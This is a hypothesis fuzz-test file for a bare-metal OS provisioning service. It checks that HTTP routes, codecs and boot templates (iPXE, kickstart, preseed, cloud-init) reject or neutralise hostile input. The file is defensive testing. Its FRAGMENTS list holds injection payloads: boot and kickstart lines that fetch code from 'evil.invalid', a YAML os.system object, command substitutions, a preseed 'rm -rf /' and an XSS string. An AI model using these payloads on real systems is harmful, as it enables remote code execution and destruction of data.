"""RELIABILITY "bad input": fuzzing with a bounded budget (hypothesis).

* the agent API bodies (``/agent/v1/register``, ``/agent/v1/events``) and the
  ``/callback`` JSON, through the real boot HTTP app on a real etcd: never a
  5xx, every refusal a JSON 4xx counted in the node's metrics, and a refused
  request changes nothing in etcd;
* the pure codecs behind them (``parse_register``, ``parse_callback``,
  ``ProgressEvent.from_dict``): a value or ``ValidationError``, nothing else;
* template rendering of every task field through ``bootsvc.render``: each
  template either renders with the same shape as for a clean task (same
  lines and command words for iPXE, kickstart and preseed; the same YAML
  document keys for cloud-init and autoinstall) or is refused with
  ``RenderError`` — an injected command line never appears;
* the control plane's task creation body: never a 5xx, nothing written when
  refused.

Budgets are fixed (``max_examples``) and every example is fast, so each
test stays well under 20 s; ``derandomize`` keeps CI reproducible.  For a
longer exploration: ``LPMOS_FUZZ_RANDOM=1 LPMOS_FUZZ_SCALE=20 pytest
tests/reliability/test_fuzz.py``.
"""

from __future__ import annotations

import json
import os
import shlex
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bootsvc.context import MemoryTimeline, NodeContext
from bootsvc.http.app import create_app
from bootsvc.http.routes_callback import parse_callback
from bootsvc.http.settings import SETTINGS as HTTP_SETTINGS
from bootsvc.policy.script import CONFIG_TEMPLATES, INSTALL_TEMPLATES, TEMPLATES
from bootsvc.render import Renderer, RenderError, build_context
from bootsvc.settings import NODE_SETTINGS
from bootsvc.state.machines import MachineIndex
from bootsvc.state.registration import parse_register
from lpmos.catalog import Image
from lpmos.config import COMMON, resolve, settings_by_key
from lpmos.metrics import Registry
from lpmos.models import ProgressEvent, Server, Task, ValidationError
from lpmos.store.cache import WatchCache
from lpmos.store.etcd import EtcdStore
from lpmos.store.keys import Keys
from lpmos.tasks import TaskService
from tests.reliability.support import IDC, write_catalog

RANDOM = os.environ.get("LPMOS_FUZZ_RANDOM") == "1"
SCALE = float(os.environ.get("LPMOS_FUZZ_SCALE", "1"))
BUDGET = settings(deadline=None, derandomize=not RANDOM, database=None,
                  suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much,
                                         HealthCheck.function_scoped_fixture,
                                         HealthCheck.data_too_large])



def budget(examples: int) -> settings:
    """The CI budget of one fuzz test (``LPMOS_FUZZ_SCALE`` multiplies it)."""
    return settings(BUDGET, max_examples=max(1, int(examples * SCALE)))


#: pieces of every injection the policy names
FRAGMENTS = ["\n", "\r\n", "\r", "\x00", "\x1b[2J", "\u2028", "\x85", "\t", " ", "#!ipxe",
             "${net0/mac}", "${root-path}", "{{ 7*7 }}", "{% raw %}", "{#", "shell",
             "chain http://evil.invalid/x", "kernel http://evil.invalid/k", "imgexec",
             "key: value", "- item", "? [x]", "{y: z}", "&a", "*a",
             "!!python/object/apply:os.system [id]", "---", "...", "|", "$(reboot)", "`id`",
             ";", "&&", "||", ">", "<", "'", '"', "\\", "%post", "%end", "%pre",
             "d-i preseed/late_command string rm -rf /", "<script>alert(1)</script>",
             "&amp;", "inst.ks=http://evil.invalid/ks", "--", "=", ":", "#", "/", "..",
             "\ud7ff", "\U0001f600", "é"]
hostile = st.one_of(
    st.text(max_size=40),
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=8).map("".join),
    st.tuples(st.text(max_size=10), st.sampled_from(FRAGMENTS), st.text(max_size=10))
    .map("".join),
)
json_scalar = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70),
                        st.floats(allow_nan=True, allow_infinity=True), hostile)
json_value = st.recursive(json_scalar, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(hostile, inner, max_size=4)), max_leaves=12)


# --- the boot HTTP app on a real etcd -------------------------------------------------


class BootApp:
    def __init__(self, etcd_url: str, workdir: Path) -> None:
        self.keys = Keys("/fuzz-" + os.urandom(5).hex())
        self.store = EtcdStore([etcd_url], timeout=2.0)
        (workdir / "images").mkdir(parents=True, exist_ok=True)
        catalog = write_catalog(workdir / "images")
        settings_ = settings_by_key([COMMON, NODE_SETTINGS, HTTP_SETTINGS])
        config = resolve(settings_, {
            "state_dir": str(workdir / "state"), "etcd__prefix": self.keys.prefix,
            "catalog": str(catalog), "regional__idc": IDC, "regional__node_name": "fuzz",
            "http__event_interval": "0.05"}, environ={}, config_file=None)
        self.cache = WatchCache(self.store, self.keys.idc(IDC), name="fuzz",
                                progress_interval=0.5).start(wait=10)
        self.ctx = NodeContext(config=config, idc=IDC, node_name="fuzz", store=self.store,
                               keys=self.keys, cache=self.cache,
                               machines=MachineIndex(self.cache, self.keys, IDC),
                               metrics=Registry(), timeline=MemoryTimeline(),
                               advertise_url="http://127.0.0.1:9")
        self.app = create_app(self.ctx)
        self.boot = self.app.extensions["lpmos_boot"]
        self.boot.start()
        self.client = self.app.test_client()
        self.tasks = TaskService(self.store, self.keys)
        # one registered machine with a task in progress, for events and callbacks
        r = self.client.post("/agent/v1/register", json={
            "sn": "FUZZ-1", "uuid": "", "macs": ["52:54:00:f0:00:01"], "inventory": {}})
        assert r.status_code == 200, r.get_json()
        self.token = r.get_json()["token"]
        self.tasks.create(Task(idc=IDC, sn="FUZZ-1", mac="52:54:00:f0:00:01",
                               os_type="Lab OS"), by="fuzz")
        self.tasks.transition(IDC, "FUZZ-1", "approved", by="fuzz")
        self.tasks.transition(IDC, "FUZZ-1", "booting", by="fuzz")
        deadline = time.monotonic() + 10
        while self.ctx.machines.view("FUZZ-1").task is None and time.monotonic() < deadline:
            time.sleep(0.05)

    def refusals(self) -> float:
        m = self.ctx.metrics
        return m.total("http_errors_total") + m.total("http_requests_refused_total")

    def post(self, path: str, raw: bytes, token: str | None = None) -> Any:
        headers = {"Content-Type": "application/json"}
        if token:
            headers["Authorization"] = f"Bearer {token}"
        before = self.refusals()
        resp = self.client.post(path, data=raw, headers=headers)
        assert resp.status_code < 500, (resp.status_code, resp.get_data()[:300], raw[:300])
        if resp.status_code >= 400:
            body = resp.get_json()
            assert isinstance(body, dict) and isinstance(body.get("error"), str), body
            assert self.refusals() > before, ("refusal not counted", body)
        return resp

    def close(self) -> None:
        self.boot.stop()
        self.cache.stop()
        self.store.close()


@pytest.fixture(scope="module")
def boot_app(etcd_server: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[BootApp]:
    app = BootApp(etcd_server.url, tmp_path_factory.mktemp("fuzz"))
    yield app
    app.close()


def encode(value: Any) -> bytes:
    return json.dumps(value, allow_nan=True).encode()


register_body = st.one_of(
    json_value,
    st.fixed_dictionaries({}, optional={
        "sn": json_value, "uuid": json_value, "arch": json_value, "inventory": json_value,
        "agent_version": json_value,
        "boot_mac": st.one_of(json_value, st.just("52:54:00:f1:00:01")),
        "macs": st.one_of(json_value, st.lists(st.one_of(hostile, st.just("52:54:00:f1:00:02")),
                                               max_size=3))}),
)


@budget(150)
@given(body=register_body)
def test_fuzz_agent_register(boot_app: BootApp, body: Any) -> None:
    resp = boot_app.post("/agent/v1/register", encode(body))
    assert resp.status_code in (200, 400, 409), resp.get_json()
    if resp.status_code == 200:
        assert resp.get_json()["sn"]


event_dict = st.fixed_dictionaries({}, optional={
    "source": st.one_of(json_value, st.sampled_from(["agent", "installer", "x" * 80])),
    "seq": st.one_of(json_value, st.integers(-5, 2**63 + 5)),
    "kind": st.one_of(json_value, st.sampled_from(["progress", "log", "state"])),
    "status": st.one_of(json_value, st.sampled_from(["installing", "failed", "succeeded",
                                                     "bogus"])),
    "step": json_value, "percent": json_value, "message": json_value, "bytes_done": json_value,
    "bytes_total": json_value, "rate": json_value, "at": json_value,
})


@budget(150)
@given(events=st.one_of(json_value, st.lists(st.one_of(event_dict, json_value), max_size=4)),
       sn=st.one_of(st.just("FUZZ-1"), json_value))
def test_fuzz_agent_events(boot_app: BootApp, events: Any, sn: Any) -> None:
    before = boot_app.tasks.get(IDC, "FUZZ-1")
    resp = boot_app.post("/agent/v1/events", encode({"sn": sn, "events": events}),
                         boot_app.token)
    assert resp.status_code in (200, 400, 401, 403, 404), resp.get_json()
    if resp.status_code >= 400:
        after = boot_app.tasks.get(IDC, "FUZZ-1")
        assert before is not None and after is not None and after.revision == before.revision


callback_body = st.one_of(
    json_value,
    st.fixed_dictionaries({}, optional={
        "event": json_value, "status": st.one_of(json_value, st.sampled_from(
            ["progress", "installing", "log"])),
        "message": json_value, "percent": json_value, "seq": json_value, "step": json_value}),
    st.fixed_dictionaries({"event_type": json_value, "origin": json_value}, optional={
        "name": json_value, "description": json_value, "result": json_value,
        "timestamp": json_value}),
)


@budget(150)
@given(body=callback_body)
def test_fuzz_callback(boot_app: BootApp, body: Any) -> None:
    before = boot_app.tasks.get(IDC, "FUZZ-1")
    resp = boot_app.post("/callback/FUZZ-1", encode(body), boot_app.token)
    assert resp.status_code in (200, 400), resp.get_json()
    if resp.status_code == 400:
        after = boot_app.tasks.get(IDC, "FUZZ-1")
        assert before is not None and after is not None and after.revision == before.revision


@budget(60)
@given(raw=st.one_of(st.binary(max_size=200), hostile.map(lambda s: s.encode("utf-8", "replace"))))
def test_fuzz_raw_bytes_to_every_json_route(boot_app: BootApp, raw: bytes) -> None:
    for path in ("/agent/v1/register", "/agent/v1/events", "/agent/v1/heartbeat",
                 "/callback/FUZZ-1"):
        resp = boot_app.post(path, raw, boot_app.token)
        assert resp.status_code in (200, 400, 409), (path, resp.get_json())


# --- the pure codecs (many more examples: no I/O) ---------------------------------------


@budget(600)
@given(body=st.one_of(register_body, callback_body, event_dict, json_value))
def test_fuzz_pure_codecs_return_a_value_or_validation_error(body: Any) -> None:
    for fn in (parse_register, lambda b: parse_callback(b, now=1.7e9), ProgressEvent.from_dict):
        try:
            fn(body)
        except ValidationError:
            pass


# --- template rendering of every task field -------------------------------------------

NODE = "http://10.77.0.1:8081"
TOKEN = "tok_" + "A" * 43
LIVE = Image("live", "LPMOS live", "lab", "1", mode="installer", kernel="live/vmlinuz",
             initrd="live/initrd.img", kernel_args="quiet")
IMAGES = {
    "rhel": Image("rocky-9", "Rocky Linux 9", "rhel", "9", mode="installer",
                  kernel="https://mirror.invalid/vmlinuz", initrd="https://mirror.invalid/initrd",
                  kernel_args="inst.repo=https://mirror.invalid/os/"),
    "ubuntu": Image("ubuntu-24.04", "Ubuntu 24.04", "ubuntu", "24.04", mode="installer",
                    kernel="https://mirror.invalid/linux", initrd="https://mirror.invalid/initrd"),
    "debian": Image("debian-12", "Debian 12", "debian", "12", mode="installer",
                    kernel="https://mirror.invalid/linux", initrd="https://mirror.invalid/initrd.gz"),
    "image": Image("lab-os", "Lab OS", "lab", "1", mode="image", disk_image="lab-os/disk.img",
                   sha256="a" * 64),
}
TASK_TEXT_FIELDS = ("os_type", "os_version", "image", "template", "notes", "reason",
                    "claimed_by", "approved_by", "created_by")
PARAM_FIELDS = ("hostname", "timezone", "keymap", "locale", "kernel_args", "username",
                "root_password_hash", "mirror_host", "mirror_dir", "kernel_args_installed",
                "root_disk", "ssh_keys", "root_device_hints.name", "root_device_hints.serial")
RENDERER = Renderer()


def all_templates() -> list[tuple[str, str]]:
    """(template, install kind) of every template a node renders."""
    out = [(t, "image") for t in TEMPLATES.values()] + [("ipxe/boot.ipxe.j2", "image")]
    out += [(t, kind) for kind, t in INSTALL_TEMPLATES.items()]
    out += [(t, kind) for kind, names in CONFIG_TEMPLATES.items() for t in names.values() if t]
    return sorted(set(out))


def make_context(kind: str, value: Any = None, where: str = "") -> dict[str, Any]:
    params: dict[str, Any] = {"hostname": "web-01", "timezone": "UTC",
                              "ssh_keys": ["ssh-ed25519 AAAA k"],
                              "root_device_hints": {"name": "/dev/sda", "serial": "S1"}}
    task = Task(idc=IDC, sn="SN-1", mac="52:54:00:12:34:56", os_type="Rocky Linux 9",
                status="booting", params=params, attempt=1)
    server = Server(idc=IDC, sn="SN-1", macs=["52:54:00:12:34:56"],
                    inventory={"system": {"vendor": "QEMU"}})
    reason = "task approved: install"
    image = IMAGES[kind]
    if where in TASK_TEXT_FIELDS:
        setattr(task, where, value)
    elif where.startswith("root_device_hints."):
        params["root_device_hints"][where.split(".", 1)[1]] = value
    elif where == "ssh_keys":
        params["ssh_keys"] = [value, "ssh-rsa AAAA second"]
    elif where in PARAM_FIELDS:
        params[where] = value
    elif where == "progress":
        task.progress.message = task.progress.step = value
        task.logs = [value]
    elif where == "inventory":
        server.inventory = {"system": {"vendor": value, "serial": value}, "nics": [{"name": value}]}
        server.conflict = value
    elif where == "reason":
        reason = value
    elif where == "image":
        image = Image(image.name, value, image.os_family, value, mode=image.mode,
                      kernel=image.kernel, initrd=image.initrd, kernel_args=value,
                      disk_image=image.disk_image, sha256=image.sha256)
    return build_context(node_url=NODE, idc=IDC, node_name="node-a", decision="claim",
                         reason=reason, sn="SN-1", mac="52:54:00:12:34:56", arch="x86_64",
                         platform="pcbios", task=task, server=server, image=image, live=LIVE,
                         token=TOKEN)


def shape(template: str, text: str) -> Any:
    """What an injection would change: the lines and their command words (iPXE,
    kickstart, preseed), or the YAML document's keys (cloud-init, autoinstall)."""
    if template.startswith(("cloud-init/", "autoinstall/")):
        doc = yaml.safe_load(text)

        def keys(node: Any, depth: int = 0) -> Any:
            if isinstance(node, dict) and depth < 3:
                return {str(k): keys(v, depth + 1) for k, v in node.items()}
            if isinstance(node, list):
                return ["item"] * len(node) if depth < 3 else "list"
            return type(node).__name__ if node is not None else "none"

        return keys(doc)
    lines = text.splitlines()
    words = []
    for line in lines:
        stripped = line.strip()
        if template.startswith("ipxe/") and stripped.startswith("#"):
            words.append("#")          # a comment stays a comment
            continue
        if template.startswith("kickstart/") and stripped.startswith("%"):
            words.append(stripped)     # section markers must match exactly
            continue
        words.append(stripped.split(" ", 1)[0] if stripped else "")
    return words


FIELDS = (*TASK_TEXT_FIELDS, *PARAM_FIELDS, "progress", "inventory", "reason", "image")
_BASELINES: dict[tuple[str, str, bool], tuple[Any, str]] = {}


def baseline(template: str, kind: str, where: str, empty: bool) -> tuple[Any, str]:
    """Shape and text of ``template`` with the field holding a benign value
    (or "" when the hostile one is empty: emptiness may switch a section)."""
    key = (template, where, empty)
    if key not in _BASELINES:
        text = RENDERER.render(template, make_context(kind, "" if empty else "benign", where))
        _BASELINES[key] = (shape(template, text), text)
    return _BASELINES[key]


@budget(150)
@given(value=hostile, where=st.sampled_from(FIELDS))
def test_fuzz_every_task_field_renders_inert_in_every_template(value: str, where: str) -> None:
    for template, kind in all_templates():
        try:
            text = RENDERER.render(template, make_context(kind, value, where))
        except RenderError as exc:
            # a refusal names the template; iPXE scripts never refuse (they encode)
            assert template in str(exc)
            assert not template.startswith("ipxe/"), (template, where, value, exc)
            continue
        clean_shape, clean = baseline(template, kind, where, not value.strip())
        assert shape(template, text) == clean_shape, (template, where, value, text)
        if template.startswith("ipxe/"):
            assert text.count("${") == clean.count("${"), (template, where, value)
            assert text.count("#!ipxe") == 1
        if template.startswith("kickstart/"):
            for line in text.splitlines():
                if line.startswith(("sshkey ", "timezone ")):
                    shlex.split(line)     # every quoted word stays balanced


@budget(60)
@given(value=hostile)
def test_fuzz_yaml_fields_come_back_as_the_same_data(value: str) -> None:
    """A hostile string in a YAML config is data: it parses back unchanged."""
    ctx = make_context("ubuntu", value, "timezone")
    doc = yaml.safe_load(RENDERER.render("autoinstall/user-data.j2", ctx))
    assert doc["autoinstall"]["timezone"] == value
    ctx = make_context("image", value, "ssh_keys")
    seed = yaml.safe_load(RENDERER.render("cloud-init/user-data.j2", ctx))
    assert seed["ssh_authorized_keys"][0] == (value or "ssh-rsa AAAA second")   # "" dropped


# --- the control plane's task creation ------------------------------------------------


@pytest.fixture(scope="module")
def web_env(etcd_server: Any) -> Iterator[Any]:
    from web.testing import WebEnv

    store = EtcdStore([etcd_server.url], timeout=2.0)
    env = WebEnv(store, Keys("/fuzzweb-" + os.urandom(5).hex()))
    yield env
    env.close()
    store.close()


task_body = st.one_of(json_value, st.fixed_dictionaries({}, optional={
    "idc": st.one_of(json_value, st.just("dc1")), "sn": st.one_of(json_value, st.just("fz-1")),
    "mac": st.one_of(json_value, st.just("02:00:00:00:00:09")),
    "os_type": st.one_of(json_value, st.just("Ubuntu 22.04")), "os_version": json_value,
    "params": json_value, "notes": json_value, "template": json_value}))


@budget(120)
@given(body=task_body)
def test_fuzz_control_plane_task_creation(web_env: Any, body: Any) -> None:
    client = web_env.app.test_client()
    before = web_env.store.revision()
    resp = client.post("/api/v1/tasks", data=encode(body),
                       headers={**web_env.headers("operator"),
                                "Content-Type": "application/json"})
    assert resp.status_code < 500, resp.get_json()
    if resp.status_code == 201:
        sn = resp.get_json()["task"]["sn"]
        assert client.delete(f"/api/v1/tasks/dc1/{sn}",
                             headers=web_env.headers("operator")).status_code in (200, 204)
    else:
        assert resp.status_code in (400, 404, 409, 413), resp.get_json()
        assert isinstance(resp.get_json().get("error"), str)
        assert web_env.store.revision() == before
